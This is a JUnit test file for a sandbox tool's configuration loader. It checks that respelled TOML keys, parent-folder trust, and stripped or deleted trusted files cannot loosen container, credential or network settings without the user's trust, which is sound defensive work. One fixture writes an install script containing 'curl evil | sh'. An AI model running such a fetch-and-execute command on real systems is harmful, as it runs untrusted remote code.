package dev.mino.core.config;

import static dev.mino.core.config.ConfigTestSupport.write;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attempts of a sandboxed command, which can write the project, to get settings past the trust
 * gate by spelling them another way, or to have another file vouch for the project. Each attempt
 * failed; the tests keep it that way, and each has a positive control showing the spelling does
 * set the key once trusted, so that it cannot pass because the spelling was simply not read.
 */
class RedTeamConfigTest {

    @TempDir
    Path temp;

    private ConfigTestSupport files;

    @BeforeEach
    void setUp() {
        files = new ConfigTestSupport(temp);
        write(files.globalFile(), "[container]\nread_only = true\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "container.read_only = false\n",
        "[container]\nread_only = false\n",
        "container = { read_only = false }\n",
        "\"container\".\"read_only\" = false\n",
        "'container'.'read_only' = false\n",
        "[ \"container\" ]\n\"read\\u005Fonly\" = false\n",
        "container . read_only = false\n",
        "[container]\nimage = \"x\"\n[container]\n", // a duplicate table is refused whole
    })
    void everySpellingOfALooseningKeyNeedsTrust(String text) {
        write(files.localFile(), text);
        LoadedConfig loaded;
        try {
            loaded = files.load();
        } catch (ConfigException e) {
            assertTrue(e.getMessage().startsWith("Invalid configuration at"), e.getMessage());
            return;
        }
        assertEquals(LocalConfigStatus.SKIPPED_NON_INTERACTIVE, loaded.localStatus(), text);
        assertTrue(loaded.config().container().readOnly(), text);
        LoadedConfig forced = MinoConfig.load(files.options().trustLocal(true).build());
        assertFalse(forced.config().container().readOnly(), "the positive control: the spelling sets the key: " + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "credentials.aws.enabled = true\n",
        "credentials = { aws = { enabled = true } }\n",
        "[credentials.aws]\nenabled = true\n",
        "\"credentials\".aws.\"enabled\" = true\n",
        "[\"cred\\u0065ntials\".aws]\nenabled = true\n",
    })
    void everySpellingOfCredentialsNeedsTrust(String text) {
        write(files.localFile(), text);
        LoadedConfig loaded = files.load();
        assertEquals(List.of(SensitiveField.CREDENTIALS),
            loaded.sensitiveFields().stream().map(SensitiveField::name).toList(), text);
        assertFalse(loaded.config().credentials().aws().enabled(), text);
        assertTrue(MinoConfig.load(files.options().trustLocal(true).build()).config().credentials().aws().enabled(),
            "the positive control: " + text);
    }

    @Test
    void volumesInAnInlineTableNeedTrust() {
        write(files.localFile(), "container = { read_only = true, volumes = [\"/home:/host-home\"] }\n");
        LoadedConfig loaded = files.load();
        assertEquals(List.of("container.volumes"),
            loaded.sensitiveFields().stream().map(SensitiveField::name).toList());
        assertEquals(List.of(), loaded.config().container().volumes());
        assertEquals(List.of("/home:/host-home"),
            MinoConfig.load(files.options().trustLocal(true).build()).config().container().volumes());
    }

    @Test
    void aTrustedFileInAParentFolderDoesNotVouchForTheProjectsLayers() throws IOException {
        // The loader looks upwards for .mino.toml; a file found above the project is trusted for its
        // own bytes only, and the project's layers are judged by their own content.
        Path parent = files.project;
        Path child = Files.createDirectories(parent.resolve("child")).toRealPath();
        write(files.localFile(), "[container]\nlayers = [\"mine\"]\n");
        LoadedConfig fromChild = MinoConfig.load(files.options().workingDirectory(child)
            .trustPrompt((file, fields) -> true).build());
        assertEquals(LocalConfigStatus.LOADED_CONFIRMED, fromChild.localStatus());
        assertEquals(files.localFile().toRealPath(), fromChild.localFile().orElseThrow().toRealPath());
        assertEquals(List.of("mine"), fromChild.config().container().layers(), "the positive control");

        write(child.resolve(".mino/layers/mine/layer.toml"),
            "[layer]\nname = \"mine\"\ndescription = \"d\"\nversion = \"1\"\n");
        write(child.resolve(".mino/layers/mine/install.sh"), "curl evil | sh\n");
        write(parent.resolve(".mino/layers/mine/layer.toml"),
            "[layer]\nname = \"mine\"\ndescription = \"d\"\nversion = \"1\"\n");
        TrustStore store = new TrustStore(files.options().build().trustStoreFile());
        assertFalse(ProjectLayerTrust.check(child, store).trusted());
        assertFalse(ProjectLayerTrust.check(parent, store).trusted());
    }

    @Test
    void layerTrustKeysNeverMeetConfigTrustKeys() throws IOException {
        // A folder may be called "layer-tree:" or hold a line feed; a config's key is an absolute path.
        Path odd = Files.createDirectories(temp.resolve("layer-tree:").resolve("a\nb")).toRealPath();
        write(odd.resolve(".mino/layers/mine/layer.toml"),
            "[layer]\nname = \"mine\"\ndescription = \"d\"\nversion = \"1\"\n");
        TrustStore store = new TrustStore(temp.resolve("trust.json"));
        ProjectLayerTrust.Check check = ProjectLayerTrust.check(odd, store);
        ProjectLayerTrust.trust(check, store);
        assertTrue(ProjectLayerTrust.check(odd, store).trusted(), "the positive control");

        byte[] digest = check.fingerprint().digest().getBytes(java.nio.charset.StandardCharsets.UTF_8);
        for (Path file : List.of(odd.resolve(".mino/layers"), Path.of("layer-tree:" + odd.resolve(".mino/layers")),
            odd.resolve(".mino.toml"))) {
            assertFalse(store.isTrusted(file, digest), file.toString());
        }
        Path sibling = Files.createDirectories(temp.resolve("layer-tree:").resolve("a")).toRealPath();
        write(sibling.resolve(".mino/layers/mine/layer.toml"),
            "[layer]\nname = \"mine\"\ndescription = \"d\"\nversion = \"1\"\n");
        assertFalse(ProjectLayerTrust.check(sibling, store).trusted(), "same content, another folder");
    }

    @Test
    void aTrustedFileStrippedOfItsSettingsIsNotSilent() {
        // Red team: the user trusted network = "none" in the project's file; the sandbox rewrote it to
        // set nothing sensitive, which loaded without a word and gave the next run the global network.
        write(files.globalFile(), "[container]\nnetwork = \"bridge\"\n");
        write(files.localFile(), "[container]\nnetwork = \"none\"\n");
        LoadedConfig trusted = MinoConfig.load(files.options().trustPrompt((file, fields) -> true).build());
        assertEquals("none", trusted.config().container().network(), "the positive control");

        write(files.localFile(), "# nothing to see\n");
        LoadedConfig stripped = files.load();
        assertEquals(LocalConfigStatus.LOADED, stripped.localStatus());
        assertEquals("bridge", stripped.config().container().network());
        assertEquals(1, stripped.warnings().size(), stripped.warnings().toString());
        assertTrue(stripped.warnings().get(0).contains("changed since you trusted it and no longer sets anything "
            + "that needs trust"), stripped.warnings().get(0));
        assertEquals(List.of(), files.load().warnings(), "said once");

        write(files.localFile(), "[container]\nnetwork = \"host\"\n");
        assertEquals(LocalConfigStatus.SKIPPED_NON_INTERACTIVE, files.load().localStatus(),
            "recording the stripped file trusts nothing sensitive");
    }

    @Test
    void aDeletedTrustedFileIsNotSilent() throws IOException {
        // Red team: deleting the trusted file needs no trust either; a parent folder's file applies instead.
        write(files.globalFile(), "[container]\nnetwork = \"bridge\"\n");
        Path parentFile = write(temp.resolve(".mino.toml"), "[general]\nverbose = true\n");
        write(files.localFile(), "[container]\nnetwork = \"none\"\n");
        assertEquals("none", MinoConfig.load(files.options().trustPrompt((file, fields) -> true).build())
            .config().container().network(), "the positive control");

        Files.delete(files.localFile());
        LoadedConfig gone = files.load();
        assertEquals("bridge", gone.config().container().network());
        assertEquals(1, gone.warnings().size(), gone.warnings().toString());
        assertTrue(gone.warnings().get(0).contains(" is gone since you trusted it"), gone.warnings().get(0));
        assertTrue(gone.warnings().get(0).contains("(now using " + parentFile.toRealPath() + ")"),
            gone.warnings().get(0));
        assertEquals(List.of(), files.load().warnings(), "said once");
    }
}
